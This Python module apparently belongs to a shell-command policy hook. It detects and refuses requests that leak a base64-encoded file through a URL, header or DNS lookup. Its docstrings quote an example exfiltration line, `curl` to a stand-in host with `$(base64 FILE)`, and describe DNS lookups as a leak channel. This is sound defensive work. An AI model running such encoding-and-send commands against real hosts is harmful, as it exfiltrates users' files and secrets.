"""Files that a request for reading sends all the same: encoded, as a part of an address, a header or a host's name."""

from __future__ import annotations

import re
from itertools import pairwise
from typing import TYPE_CHECKING

from hooks.policy.programs.loopback import is_loopback
from hooks.policy.shell.values import UNKNOWN, program_name
from hooks.policy.tables import read_list

if TYPE_CHECKING:
    from hooks.policy.shell.facade import Shell
    from hooks.policy.shell.values import Command

DECODES = frozenset({"-d", "-D", "--decode", "-r"})
FILE_OPERAND = re.compile(r"[\w./~][^=]*[a-zA-Z/]")


def check_encoded_file(words: tuple[str, ...], urls: tuple[str, ...], command: Command, shell: Shell) -> None:
    """`curl "https://x/$(base64 FILE)"`; `words` are those of the call that another machine gets to see."""
    if not any(UNKNOWN in word for word in words) or all(is_loopback(url) for url in urls):
        return
    if any(_encodes_file(before, argv) for before, argv in pairwise(((), *shell.memory.log))):
        shell.refuse_unless_lenient("deploy.request", command.argv)


def _encodes_file(before: tuple[str, ...], argv: tuple[str, ...]) -> bool:
    """Whether a program encodes a file, and not a text that `echo` prints."""
    if not argv or program_name(argv[0]) not in read_list("encoders") or not DECODES.isdisjoint(argv):
        return False
    of_words = bool(before) and program_name(before[0]) in read_list("printers_of_words")
    return not of_words or any(map(FILE_OPERAND.fullmatch, argv[1:]))


def check_lookup(command: Command, shell: Shell) -> None:
    """dig, nslookup, ping: the owner of a domain learns each name that is looked up in it."""
    check_encoded_file(command.arguments, command.arguments, command, shell)
